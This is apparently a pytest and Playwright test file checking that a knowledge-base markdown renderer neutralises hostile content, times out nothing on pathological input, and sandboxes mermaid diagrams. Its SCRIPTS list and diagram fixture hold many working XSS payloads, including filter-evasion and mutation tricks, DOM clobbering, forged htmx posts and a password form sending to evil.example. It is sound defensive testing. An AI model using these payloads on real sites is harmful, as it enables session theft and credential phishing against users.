"""A document is data: whatever it says, nothing runs, nothing is fetched, and the page looks as it should."""

import time
from html.parser import HTMLParser

import pytest
from playwright.sync_api import expect

from kbhub.documents.markdown import parse_document
from kbhub.render.html import TAGS, Addresses, document_html, part_with

SCRIPTS = [
    "<script>window.hacked = 1</script>", "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>window.hacked = 1</scr</script>ipt>", "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1><script>window.hacked=1</script></svg>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>x</details>",
    "<a href='javascript:window.hacked=1' id=q autofocus>click</a>", "[click](javascript:window.hacked=1)",
    "[click](  java\nscript:window.hacked=1)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)", "[click](vbscript:x)",
    "![x](javascript:window.hacked=1)", "[[javascript:window.hacked=1|click]]", "<javascript:window.hacked=1>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<object data='data:text/html,<script>window.hacked=1</script>'></object>", "<embed src=//evil.example/x>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0;background:red'>cover</p>", "<div class='top banner'>disguise</div>",
    "<form action=//evil.example><input name=password><button>OK</button></form>",
    "<form action=/memories/change method=post><input name=id value=x><button autofocus>OK</button></form>",
    "<input id=q name=q value=evil>", "<img name=body src=x><a id=main>clobber</a>",
    "<template><script>window.hacked=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'></noscript>",
    "<textarea><img title='</textarea><img src onerror=window.hacked=1>'></textarea>",
    "<xmp><p title='</xmp><img src onerror=window.hacked=1>'></xmp>", "<!--><img src onerror=window.hacked=1>-->",
    "<![CDATA[<img src onerror=window.hacked=1>]]>", '```"><script>window.hacked=1</script>\ncode\n```',
    "```html\n<script>window.hacked=1</script>\n```", "| a |\n|---|\n| <script>window.hacked=1</script> |",
    "# <img src=x onerror=window.hacked=1>", "![x](https://evil.example/track.png)",
    "<img src=https://evil.example/track.png srcset='https://evil.example/2.png 2x'>",
    "<video src=//evil.example/v.mp4 autoplay></video><audio src=//evil.example/a.mp3 autoplay></audio>",
    "<a href=//evil.example/>scheme-relative</a>", "<a href='/memories/change'>into the page</a>",
    '<button hx-post=/memories/change hx-trigger=load hx-vals=\'{"action":"forget"}\'>x</button>',
    "<div hx-get=/health hx-trigger=load data-open data-item data-confirm=x>x</div>",
    "<a ping=//evil.example href=https://good.example>ping</a>", "\u202egnp.tohs\u202c",
]  # fmt: skip

ALLOWED = {
    *("href", "src", "alt", "title", "width", "height", "class", "id", "data-line", "rel", "start", "align", "colspan"),
    *("rowspan", "scope", "open", "name"),
}


class Tags(HTMLParser):
    """Collects tags and attributes, as a browser reads them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        """Keep a tag."""
        self.found.append((tag, dict(attrs)))


NOWHERE = Addresses(lambda _target, _fragment: None, lambda _path: None)


def html(text: str) -> str:
    """Render a document."""
    document = parse_document("a.md", text.encode())
    return str(document_html(document, part_with(document, 1), NOWHERE, [(1, 3)]))


def test_nothing_dangerous_is_left_and_tasks_have_boxes():
    """In what the page gets, tags and attributes that do something are gone; their text may stay."""
    for text in SCRIPTS:
        for tag, attributes in Tags(html(f"before\n\n{text}\n\nafter")).found:
            assert tag in TAGS
            assert attributes.keys() <= ALLOWED
            links = (attributes.get(name) or "https://" for name in ("href", "src"))
            assert all(link.startswith(("http://", "https://")) for link in links)
            assert (attributes.get("id") or "doc-").startswith("doc-")
            assert not {"top", "banner"} & set((attributes.get("class") or "").split())
            assert tag != "img" or "evil.example" not in str(attributes), "opening a document tells nobody"

    shown = html("- [x] Done\n- [ ] *Open*\n- [x](y.md) link\n\n[x] none\n\n```\n- [ ] code\n```\n")
    assert [shown.count(text) for text in ("☑ Done", "☐ <em>Open", "☑", "☐", "[x] none", "- [ ] code")] == [1] * 6


def test_footnotes_lead_to_their_text_and_back():
    shown = html("Pumps run hot.[^logs]\n\n[^logs]: sources/pumps.log, line 3\n\n[elsewhere](#fnord)")
    assert [shown.count(f'<{text}"') for text in ('a href="#doc-fn1', 'li id="doc-fn1', 'a href="#doc-fnref1')] == [
        1
    ] * 3
    assert "[^" not in shown
    assert "fnord" not in shown


@pytest.mark.parametrize(
    "text",
    [
        "[" * 20_000, "![" * 10_000, "*a_" * 20_000, "> " * 5_000 + "x", "- " * 2_000 + "x", "<" * 50_000,
        "`" * 20_001, "|" * 5_000 + "\n" + "|-" * 5_000, "<div>" * 5_000, "[[" + "a" * 100_000, "[a](" + "(" * 30_000,
        "&" * 50_000, "a" * 1_000_000,
    ],
    ids=lambda text: text[:6],
)  # fmt: skip
def test_a_document_made_to_be_slow_is_not(text):
    began = time.process_time()
    html(text)
    assert time.process_time() - began < 10


@pytest.fixture
def hostile(environment):
    """Knowledge made to harm, there before a page looks for some."""
    environment.write("knowledge/hostile.md", "# Hostile\n\n" + "\n\n".join(SCRIPTS))
    environment.write("knowledge/title.md", "---\ntitle: '<script>window.hacked=1</script>'\n---\nxylophone <b>x</b>\n")
    environment.write("knowledge/<img src=x onerror=hacked=1>.md", "# x\n\nxylophone\n")
    environment.hub().sync()


@pytest.mark.slow
@pytest.mark.usefixtures("hostile")
def test_all_of_it_at_once_in_a_browser(tab):
    paths = (
        "/read?ref=hostile.md", "/?q=hacked", "/?q=xylophone", "/?q=<script>window.hacked=1</script>", "/documents",
    )  # fmt: skip
    for path in (*paths, "/graph", "/health", "/ask?q=xylophone", "/gaps"):
        page = tab.go(path)
        page.wait_for_load_state("networkidle") if path != "/health" else page.wait_for_timeout(1)
        assert page.evaluate("window.hacked") is None
        assert page.locator("header.top").is_visible()
    page = tab.go("/read?ref=hostile.md")
    for link in page.locator(".body a[href]").all():
        assert link.get_attribute("href").startswith(("https://", "/read?"))
    assert page.locator(".body a:not([href])").count()
    for link in page.locator(".body a:not([href])").all():
        link.click(force=True)
    assert page.url.endswith("/read?ref=hostile.md")
    assert page.evaluate("window.hacked") is None
    assert all(url.startswith((tab.opened.origin, "data:")) for url in tab.asked), tab.asked
    assert tab.dialogs == []


DIAGRAMS = """# Diagrams

```mermaid
%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url(https://evil.example/x.css);"}}%%
flowchart TD
  A["<img src=https://evil.example/i.png onerror=parent.hacked=1><script>top.hacked=1</script>"] --> B[Second]
  click A call hacked()
  click B "https://evil.example/link"
```

```mermaid
---
config: {securityLevel: sandbox, flowchart: {htmlLabels: true}}
---
flowchart TD
  C["<iframe srcdoc='<script>top.hacked=1</script>'></iframe><a href='javascript:top.hacked=1'>C</a>"] --> Third
  click C href "javascript:top.hacked=1"
```

```mermaid
No diagram <script>hacked=1</script>
```
"""


@pytest.fixture
def diagrams(environment):
    """A page that is there before the server starts, which looks for new bases once a second."""
    environment.write("knowledge/diagrams.md", DIAGRAMS)
    environment.hub().sync()


@pytest.mark.slow
def test_a_diagram_runs_and_reaches_nothing(diagrams, tab):
    page = tab.go("/read?ref=diagrams.md")
    expect(page.frame_locator(".diagram >> nth=0").locator("svg")).to_contain_text("Second")
    expect(page.frame_locator(".diagram >> nth=1").locator("svg")).to_contain_text("Third")
    expect(page.locator(".diagram")).to_have_count(2)
    expect(page.get_by_text("No diagram")).to_be_visible()
    for frame in page.frames[1:]:
        assert frame.evaluate("origin") == "null"
        assert frame.evaluate("fetch('/').then(() => 'reached', () => 'refused')") == "refused"
        assert frame.locator("a[*|href], img, iframe, svg script").count() == 0
        frame.get_by_text("Second").or_(frame.get_by_text("Third")).first.click()
    assert page.evaluate("window.hacked") is None
    assert page.url.endswith("/read?ref=diagrams.md")
    assert all(url.startswith(f"{tab.opened.origin}/") for url in tab.asked), tab.asked
    assert tab.dialogs == []


@pytest.fixture
def picture(environment):
    """A picture that is there before the server starts."""
    environment.write(
        "knowledge/x.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>window.hacked=1</script></svg>"
    )
    environment.write("knowledge/a.md", "# A\n\n![x](x.svg)\n")


@pytest.mark.slow
def test_a_picture_that_is_a_page_does_nothing(picture, tab):
    page = tab.go("/image?base=project&path=x.svg")
    assert page.evaluate("window.hacked") is None


@pytest.fixture
def large(environment):
    """Knowledge of one large document, there before a page looks for some."""
    lines = [f"Line {number} of it, with some words to make it long enough." for number in range(20_000)]
    environment.write("knowledge/large.md", "# Large\n\n" + "\n\n".join(lines))
    environment.hub().sync()


@pytest.mark.slow
@pytest.mark.usefixtures("large")
def test_a_large_document_is_shown_in_parts(tab):
    """A megabyte is not one page; the lines that were found are on the one that opens."""
    page = tab.go("/read?ref=large.md:30003-30003")
    assert page.locator("#doc-found").inner_text() == "Line 15000 of it, with some words to make it long enough."
    assert len(page.content()) < 1_000_000
    page.get_by_role("link", name="Lines before").click()
    assert "Line 9000 of it" in page.content() or "Line 12000 of it" in page.content()
